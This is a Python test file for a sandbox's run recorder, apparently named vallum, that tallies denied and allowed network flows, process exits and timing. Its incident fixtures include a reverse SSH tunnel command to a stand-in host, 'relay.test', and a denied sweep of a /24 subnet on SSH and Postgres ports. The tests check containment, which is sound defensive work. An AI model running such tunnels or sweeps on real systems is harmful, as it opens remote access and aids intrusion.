"""The story of a run: everything charged where it belongs, bounded whatever a guest does."""

from __future__ import annotations

from vallum.core.events import DnsQuery, Flow, PacketDropped, Record, RunStarted, StepOpened
from vallum.core.scope import BY_NODE, Attribution, Scope
from vallum.record.chapters import RunStory
from vallum.record.story import fold
from vallum.record.traffic import KEPT_ENTRIES, KEPT_TARGETS, KEPT_TIMES
from vallum.testing.incident import tell_incident


def tell(events: list) -> RunStory:
    return fold(Record(id=number, event=event) for number, event in enumerate(events))


def incident() -> RunStory:
    return tell(tell_incident())


def test_totals_are_those_of_the_events() -> None:
    events = tell_incident()
    totals = tell(events).count()
    denied = [e for e in events if isinstance(e, Flow | DnsQuery | PacketDropped) and e.verdict == "deny"]
    assert totals.denied == len(denied) == sum(totals.denied_by_rule.values())
    assert totals.denied_bytes_out == 0
    assert (totals.steps, totals.commands, totals.allowed, totals.bytes_out, totals.bytes_in) == (9, 9, 1, 412, 48_211)
    assert totals.findings == {"critical": 2, "high": 3, "medium": 1}
    assert totals.cpu_ns == 2_400_000_000
    assert totals.memory_peak_bytes == 96 << 20


def test_a_sweep_is_one_entry() -> None:
    step = incident().episodes["e-0"].steps[4]
    sweep = step.denied[0]
    assert sweep.count == 254
    assert sweep.target == "254 addresses in 10.0.8.0/24, ports 22, 5432"
    assert sweep.decision_ns == 328_000
    assert len(sweep.ids) == 20


def test_what_a_step_left_running_is_charged_to_it_and_said_to_be_late() -> None:
    step = incident().episodes["e-0"].steps[6]
    (entry,) = step.denied
    assert (entry.count, entry.late) == (2, 2)
    assert step.left_running == 1
    assert step.last_ns > (step.span.end_ns or 0)


def test_commands_and_processes_know_how_they_ended() -> None:
    step = incident().episodes["e-0"].steps[3]
    assert step.commands[0].text == "sh -c 'ssh -N -R 2222:localhost:22 root@relay.test'"
    assert step.commands[0].exit_code == 255
    shell, ssh = step.processes
    assert ssh.ppid == shell.process.pid
    assert ssh.exit_code == 255
    assert ssh.span.end_ns is not None


def flow(number: int, **changes: object) -> Flow:
    fields: dict = {
        "t_ns": number, "mono_ns": number, "scope": Scope(run="r", episode="e", step=0), "attribution": Attribution(method="cgroup"),
        "state": "denied", "flow": f"f{number}", "verdict": "deny", "rule": "default-deny", "reason": "", "dst_ip": "192.0.2.1", "dst_port": 80,
        "dst_host": None, "protocol": "unknown", "bytes_out": 0, "bytes_in": 0, "process": None, "decision_ns": 1,
    }  # fmt: skip
    return Flow(**(fields | changes))


def test_memory_is_bounded_whatever_a_guest_invents() -> None:
    count = 5000
    events: list = [flow(n, dst_host=f"h{n}.test") for n in range(count)]
    events += [flow(n + count, dst_ip=f"10.{n >> 8 & 255}.{n & 255}.1") for n in range(count)]
    story = tell(events)
    step = story.episodes["e"].steps[0]
    assert len(step.entries) <= KEPT_ENTRIES + 5
    assert step.denied_count == 2 * count
    assert all(len(entry.targets) <= KEPT_TARGETS and len(entry.spans) <= KEPT_TIMES for entry in step.denied)
    assert any(entry.target.startswith("more than ") for entry in step.denied)


def test_an_allowed_flow_is_counted_once_and_its_bytes_when_it_closes() -> None:
    opened = flow(1, state="opened", verdict="allow", rule="allow:x")
    still_open = tell([opened]).count()
    assert (still_open.allowed, still_open.bytes_out) == (1, 0)
    closed = tell([opened, flow(1, state="closed", verdict="allow", rule="allow:x", bytes_out=10, bytes_in=20)]).count()
    assert (closed.allowed, closed.bytes_out, closed.bytes_in, closed.denied) == (1, 10, 20, 0)


def test_addresses_of_both_families_are_described() -> None:
    story = tell([flow(n, dst_ip=ip) for n, ip in enumerate(["2001:db8::1", "2001:db8::ff", "192.0.2.1"])])
    assert story.episodes["e"].steps[0].denied[0].target == "3 addresses, port 80"
    story = tell([flow(n, dst_ip=ip) for n, ip in enumerate(["2001:db8::1", "2001:db8::ff"])])
    assert story.episodes["e"].steps[0].denied[0].target == "2 addresses in 2001:db8::/120, port 80"
    assert tell([flow(0, dst_ip="fd00:ec2::254")]).episodes["e"].steps[0].denied[0].target == "[fd00:ec2::254]:80"
    assert tell([flow(0, dst_ip="not an address")]).episodes["e"].steps[0].denied[0].target == "not an address:80"


def test_a_clock_that_was_set_and_a_boot_in_between_do_not_break_the_times() -> None:
    hour = 3600 * 10**9
    first = RunStarted(
        t_ns=10 * hour,
        mono_ns=5 * hour,
        scope=Scope(run="r"),
        attribution=BY_NODE,
        command=[],
        containment="standard",
        version="0",
        host="h",
        kernel="k",
        tiers={},
    )
    stepped = StepOpened(
        t_ns=10 * hour - 10**9,
        mono_ns=5 * hour + 10**9,
        scope=Scope(run="r", episode="e", step=0),
        attribution=BY_NODE,
        cause="exec",
        cgroup_id=None,
    )
    rebooted = StepOpened(
        t_ns=12 * hour,
        mono_ns=7,
        scope=Scope(run="r", episode="e", step=1),
        attribution=BY_NODE,
        cause="exec",
        cgroup_id=None,
    )
    steps = tell([first, stepped, rebooted]).episodes["e"].steps
    assert steps[0].span.start_ns == 10**9
    assert steps[1].span.start_ns == 2 * hour


def test_an_empty_run_has_a_story() -> None:
    assert tell([]).count().denied == 0
